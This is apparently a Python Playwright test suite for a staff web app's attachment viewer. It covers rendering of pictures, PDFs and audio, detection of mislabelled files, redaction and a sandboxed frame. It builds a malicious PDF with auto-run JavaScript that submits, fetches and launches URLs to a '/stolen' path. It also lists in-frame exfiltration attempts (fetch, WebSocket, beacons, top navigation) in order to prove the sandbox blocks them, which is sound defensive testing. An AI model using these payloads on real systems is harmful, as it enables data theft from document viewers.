"""A worker's files on the desk's page: as pixels, in a frame that reaches nothing, and with boxes burnt in."""

from __future__ import annotations

import io
import socket
import wave
from pathlib import Path
from typing import Any, cast

import pytest
from PIL import Image, ImageDraw
from playwright.sync_api import Browser, Frame, Locator, expect

from crypto.attachments import Attachment
from tests.browser.desk_people import KIND, StaffBrowser
from tests.browser.test_desk_conflicts import at_phone
from tests.browser.test_desk_epochs import signed_in
from tests.conftest import RunningServer
from tests.journeys.conftest import Office, open_office
from tests.journeys.people import Answers, Worker

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("desk-journey")]

COUNT_URLS = """
globalThis.urls = new Set();
const [make, free] = [URL.createObjectURL, URL.revokeObjectURL];
URL.createObjectURL = (blob) => { const url = make.call(URL, blob); urls.add(url); return url; };
URL.revokeObjectURL = (url) => { urls.delete(url); free.call(URL, url); };
"""
ATTEMPTS = (
    "parent.document.title",
    "document.cookie",
    "localStorage.length",
    "await fetch(at + '/stolen')",
    "await fetch(at + '/s/assets/stolen.js', {mode: 'no-cors'})",
    "await new Promise((_, no) => { new WebSocket(at.replace('http', 'ws') + '/stolen').onerror = no; })",
    "await new Promise((_, no) => { new EventSource(at + '/stolen').onerror = no; })",
    "const one = new Image(); one.src = at + '/stolen'; await one.decode()",
    "if (!navigator.sendBeacon(at + '/stolen')) throw new Error(); await new Promise(() => 0)",
    "document.body.append(Object.assign(document.createElement('iframe'), {src: at})); await new Promise(() => 0)",
    "top.location = at + '/stolen'; await new Promise(() => 0)",
    "if (open(at + '/stolen') === null) throw new Error()",
    "const it = document.createElement('form'); document.body.append(it); it.submit(); await new Promise(() => 0)",
)
WITHIN_TIME = """((attempt) => Promise.race([
  attempt().then(() => 'reached', () => 'refused'), new Promise((end) => setTimeout(end, 500, 'refused'))]))"""
WIDTH = "() => document.querySelector('dialog.viewer canvas').getBoundingClientRect().width"
SECRET = (200, 20, 20)
RED_MIN, GREEN_MAX = 120, 90


def photo(form: str = "PNG", size: tuple[int, int] = (600, 400)) -> bytes:
    """Grey, with a red name in the middle."""
    picture = Image.new("RGB", size, (230, 230, 230))
    ImageDraw.Draw(picture).rectangle((240, 180, 360, 220), fill=SECRET)
    written = io.BytesIO()
    picture.save(written, form, exif=b"Exif\0\0MM\0*\0\0\0\x08\0\0\0\0\0\0") if form == "JPEG" else picture.save(
        written, form
    )
    return written.getvalue()


def pdf(*pages: str, count: int | None = None, more: str = "", catalog: str = "") -> bytes:
    """A PDF by hand; each page says one line in Helvetica."""
    first = 4
    kids = " ".join(f"{first + 2 * n} 0 R" for n in range(len(pages)))
    objects = [
        f"<</Type/Catalog/Pages 2 0 R{catalog}>>",
        f"<</Type/Pages/Count {count or len(pages)}/Kids[{kids}]>>",
        "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    for n, line in enumerate(pages):
        drawn = f"BT /F1 24 Tf 40 100 Td ({line}) Tj ET 0.8 0.1 0.1 rg 40 40 120 30 re f"
        about = "/MediaBox[0 0 300 200]/Resources<</Font<</F1 3 0 R>>>>"
        objects += [
            f"<</Type/Page/Parent 2 0 R{about}/Contents {first + 2 * n + 1} 0 R{more}>>",
            f"<</Length {len(drawn)}>>stream\n{drawn}\nendstream",
        ]
    written = b"%PDF-1.7\n"
    places: list[int] = []
    for number, one in enumerate(objects, 1):
        places.append(len(written))
        written += f"{number} 0 obj{one}endobj\n".encode()
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    end = f"trailer<</Size {len(objects) + 1}/Root 1 0 R>>\nstartxref\n{len(written)}\n%%EOF"
    return written + f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}{end}".encode()


def hostile(origin: str) -> bytes:
    """Scripts on opening and on every page, a link, a form that sends itself, a file elsewhere, and a billion pages."""
    script = (
        f"app.alert(1); this.submitForm('{origin}/stolen'); fetch('{origin}/stolen'); app.launchURL('{origin}/stolen')"
    )
    action = f"<</S/JavaScript/JS({script.replace('(', '[').replace(')', ']')})>>"
    link = f"<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI({origin}/stolen)>>>>"
    catalog = f"/OpenAction{action}/AA<</WC{action}>>/URI<</Base({origin}/)>>"
    more = (
        f"/AA<</O{action}>>/Annots[{link}<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/GoToR/F({origin}/stolen)>>>>]"
    )
    return pdf("Do not trust me", count=1_000_000_000, more=more, catalog=catalog)


def sound() -> bytes:
    written = io.BytesIO()
    with wave.open(written, "wb") as wav:
        wav.setnchannels(1)
        wav.setsampwidth(2)
        wav.setframerate(8000)
        wav.writeframes(b"\0\1" * 4000)
    return written.getvalue()


def sent(office: Office, *files: tuple[bytes, str]) -> list[Attachment]:
    """A report with these files."""
    worker = Worker(office.origin)
    sealed = [worker.seal_file(content, media_type) for content, media_type in files]
    worker.upload(*sealed)
    answers = Answers((KIND["key"],), "vi", "yes", "code", "Xem ảnh.")
    worker.seal_report(office.desk, answers, kinds=(KIND["number"],), hour=9, urgent=False, attachments=sealed)
    worker.send()
    return sealed


def files(there: StaffBrowser) -> Locator:
    return there.page.locator(".attachments li")


def opens(there: StaffBrowser, place: int) -> Locator:
    """The viewer, with the file at this place of the letter."""
    files(there).nth(place).get_by_role("button", name=there.word("attachments.open")).click()
    viewer = there.page.locator("dialog.viewer")
    expect(viewer).to_be_visible()
    return viewer


def closes(there: StaffBrowser) -> None:
    there.page.keyboard.press("Escape")
    expect(there.page.locator("dialog.viewer")).to_have_count(0)


def frame_of(there: StaffBrowser) -> Frame:
    return next(frame for frame in there.page.frames if frame.url.endswith("/viewer"))


def test_pictures_pages_and_sound_are_looked_at_on_the_page_and_freed_with_it(
    browser: Browser, server: RunningServer, tmp_path: Path
) -> None:
    office = open_office(server)
    sent(
        office,
        (photo("JPEG"), "image/jpeg"),
        (photo(), "image/png"),
        (pdf("The contract", "Page two"), "application/pdf"),
        (sound(), "audio/wav"),
        (b"MZ\x90\0" + bytes(5000), "video/mp4"),
        (pdf("I am no photo"), "image/jpeg"),
        (b"\0\0\0\x20ftypisom" + bytes(3000), "video/mp4"),
    )
    linh = signed_in(browser, server, office.lead, tmp_path)
    linh.page.add_init_script(COUNT_URLS)
    linh.page.reload()
    linh.sign_in(office.lead.name)
    linh.open_first_case()
    expect(files(linh)).to_have_count(7)
    expect(linh.page.locator(".thumbnail")).to_have_count(0)
    linh.press("attachments.showSmall")
    expect(linh.page.locator(".thumbnail")).to_have_count(2)
    linh.look("small-pictures")

    linh.page.locator(".thumbnail").first.click()
    viewer = linh.page.locator("dialog.viewer")
    picture = viewer.locator("canvas")
    expect(picture).to_be_visible()
    linh.look("picture")
    before = linh.page.evaluate(WIDTH)
    linh.page.keyboard.press("+")
    linh.page.wait_for_function(f"({WIDTH})() > 1.4 * {before}")
    linh.page.keyboard.press("0")
    linh.page.keyboard.press("r")
    expect(picture).to_have_js_property("width", 400)
    expect(picture).to_have_js_property("height", 600)
    linh.look("picture-turned")
    closes(linh)

    viewer = opens(linh, 2)
    expect(viewer.locator("canvas")).to_be_visible()
    expect(viewer).to_contain_text(linh.word("viewer.page", page=1, pages=2))
    viewer.get_by_text(linh.word("viewer.pageText")).click()
    expect(viewer.locator(".viewer-text")).to_contain_text("The contract")
    linh.look("paper")
    linh.page.keyboard.press("n")
    expect(viewer).to_contain_text(linh.word("viewer.page", page=2, pages=2))
    closes(linh)

    plays_and_tells_kinds_by_content(linh)
    assert linh.page.evaluate("urls.size") > 0
    linh.press("nav.lock")
    linh.sees("signIn.locked")
    assert linh.page.evaluate("urls.size") == 0
    # axe greets every frame that is seen, and this one has no origin to be greeted by.
    assert [one for one in linh.complaints if "recipient window's origin ('null')" not in one] == []


def plays_and_tells_kinds_by_content(linh: StaffBrowser) -> None:
    """A recording; a program that says it is a video; a PDF that says it is a photo; a video that is none."""
    opens(linh, 3)
    player = linh.page.frame_locator("iframe.viewer-frame").locator("audio")
    expect(player).to_be_visible()
    expect(player).to_have_js_property("duration", 0.5)
    linh.look("sound")
    closes(linh)

    viewer = opens(linh, 4)
    expect(viewer).to_contain_text(linh.word("viewer.unknown"))
    closes(linh)
    viewer = opens(linh, 5)
    expect(viewer).to_contain_text(linh.word("viewer.otherThanSaid"))
    expect(viewer.locator("canvas")).to_be_visible()
    linh.look("other-than-said")
    closes(linh)
    viewer = opens(linh, 6)
    expect(viewer).to_contain_text(linh.word("viewer.broken"))
    closes(linh)


def test_a_hostile_file_does_nothing_and_no_request_leaves_the_frame(
    browser: Browser, server: RunningServer, tmp_path: Path
) -> None:
    office = open_office(server)
    broken = pdf("x")[:200] + b"\xff" * 3000
    sent(office, (hostile(server.origin), "application/pdf"), (broken, "application/pdf"))
    linh = signed_in(browser, server, office.lead, tmp_path)
    linh.open_first_case()
    asked: list[str] = []
    linh.page.context.on("request", lambda request: asked.append(request.url))
    linh.page.on("dialog", lambda dialog: asked.append(dialog.message))
    linh.page.context.on("page", lambda page: asked.append(page.url))
    viewer = opens(linh, 0)
    expect(viewer.locator("canvas")).to_be_visible()
    linh.look("hostile")
    parts = f"{server.origin}/api/v1/cases/"
    loaded = (parts, f"{server.origin}/viewer", f"{server.origin}/s/assets/", "blob:")
    assert asked
    assert [url for url in asked if not url.startswith(loaded)] == []

    # Whoever takes the frame over has the file, and neither the page around it, nor a store, nor a network.
    frame, heard = frame_of(linh), len(server.heard)
    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
        elsewhere.setblocking(False)
        for to in (server.origin, f"http://localhost:{elsewhere.getsockname()[1]}"):
            for attempt in ATTEMPTS:
                assert frame.evaluate(f"(at) => {WITHIN_TIME}(async () => {{ {attempt} }})", to) == "refused", attempt
        with pytest.raises(BlockingIOError):
            elsewhere.accept()
    assert [one.path for one in server.heard[heard:]] == []
    assert linh.page.url.endswith("/desk")
    closes(linh)

    viewer = opens(linh, 1)
    expect(viewer).to_contain_text(linh.word("viewer.broken"))
    closes(linh)
    # What is complained of is what was tried above.
    assert [one for one in linh.complaints if "violates" not in one and "sandbox" not in one.lower()] == []


def test_what_is_under_a_box_is_gone_from_the_copy(browser: Browser, server: RunningServer, tmp_path: Path) -> None:
    office = open_office(server)
    sent(office, (photo("JPEG"), "image/jpeg"), (pdf("Nguyen Thi Mai"), "application/pdf"))
    linh = signed_in(browser, server, office.lead, tmp_path)
    linh.open_first_case()

    # With the mouse, on a photo.
    viewer = opens(linh, 0)
    expect(viewer.locator("canvas")).to_be_visible()
    linh.press("viewer.redact")
    place: Any = viewer.locator(".sheet-paper").bounding_box()
    linh.page.mouse.move(place["x"] + place["width"] * 0.35, place["y"] + place["height"] * 0.4)
    linh.page.mouse.down()
    linh.page.mouse.move(place["x"] + place["width"] * 0.65, place["y"] + place["height"] * 0.6, steps=4)
    linh.page.mouse.up()
    expect(viewer.locator("button.burn")).to_have_count(1)
    linh.look("box")
    linh.press("viewer.make")
    linh.sees("viewer.ready")
    linh.look("copy")
    copy = saved(linh)
    assert copy.startswith(b"\xff\xd8\xff")
    assert b"Exif" not in copy
    burnt = Image.open(io.BytesIO(copy)).convert("RGB")
    assert burnt.size == (600, 400)
    # JPEG rings for eight pixels around an edge; what is in the box was black before it was encoded.
    within = burnt.crop((226, 176, 374, 224))
    assert within.getcolors() == [(within.width * within.height, (0, 0, 0))]
    assert not has_red(burnt)
    closes(linh)
    burns_by_keys_alone(linh)
    assert linh.complaints == []


def burns_by_keys_alone(linh: StaffBrowser) -> None:
    """On a page of a PDF: the box is moved over the name and made larger."""
    viewer = opens(linh, 1)
    expect(viewer.locator("canvas")).to_be_visible()
    button = viewer.get_by_role("button", name=linh.word("viewer.redact"), exact=True)
    button.focus()
    linh.page.keyboard.press("Enter")
    viewer.get_by_role("button", name=linh.word("viewer.addBox"), exact=True).focus()
    linh.page.keyboard.press("Enter")
    box = viewer.get_by_role("button", name=linh.word("viewer.boxName", number=1))
    expect(box).to_be_focused()
    for key, times in (("ArrowLeft", 35), ("ArrowUp", 10), ("Shift+ArrowRight", 70), ("Shift+ArrowDown", 50)):
        for _ in range(times):
            linh.page.keyboard.press(key)
    linh.look("box-by-keys")
    viewer.get_by_role("button", name=linh.word("viewer.make"), exact=True).focus()
    linh.page.keyboard.press("Enter")
    linh.sees("viewer.ready")
    linh.look("copy-of-page")
    copy = saved(linh)
    assert copy.startswith(b"\x89PNG")
    assert b"Nguyen" not in copy
    assert b"%PDF" not in copy
    burnt = Image.open(io.BytesIO(copy)).convert("RGB")
    wide, high = burnt.size
    within = burnt.crop((0, round(high * 0.36), wide - 1, round(high * 0.94)))
    assert within.getcolors() == [(within.width * within.height, (0, 0, 0))]
    assert not has_red(burnt)


def has_red(picture: Image.Image) -> bool:
    colours = cast("list[tuple[int, tuple[int, int, int]]]", picture.getcolors(maxcolors=1 << 24))
    return any(red > RED_MIN and green < GREEN_MAX for _, (red, green, _blue) in colours)


def saved(there: StaffBrowser) -> bytes:
    with there.page.expect_download() as download:
        there.press("viewer.saveCopy")
    return Path(download.value.path()).read_bytes()


def test_on_a_phone_in_japanese(browser: Browser, server: RunningServer, tmp_path: Path) -> None:
    office = open_office(server)
    mai_there = office.let_in("Mai")
    sent(office, (photo("JPEG"), "image/jpeg"), (photo(), "image/png"), (pdf("Page"), "application/pdf"))
    mai = at_phone(browser, server, mai_there, tmp_path)
    mai.open_first_case()
    mai.press("attachments.showSmall")
    expect(mai.page.locator(".thumbnail")).to_have_count(2)
    files(mai).first.get_by_role("button", name=mai.word("attachments.save")).click()
    mai.look("files-390-ja")
    mai.page.locator(".thumbnail").first.click()
    expect(mai.page.locator("dialog.viewer canvas")).to_be_visible()
    mai.press("viewer.redact")
    mai.press("viewer.addBox")
    mai.look("box-390-ja")
    mai.press("viewer.make")
    mai.sees("viewer.ready")
    mai.look("copy-390-ja")
    closes(mai)
    opens(mai, 2)
    expect(mai.page.locator("dialog.viewer canvas")).to_be_visible()
    mai.look("paper-390-ja")
    assert mai.complaints == []
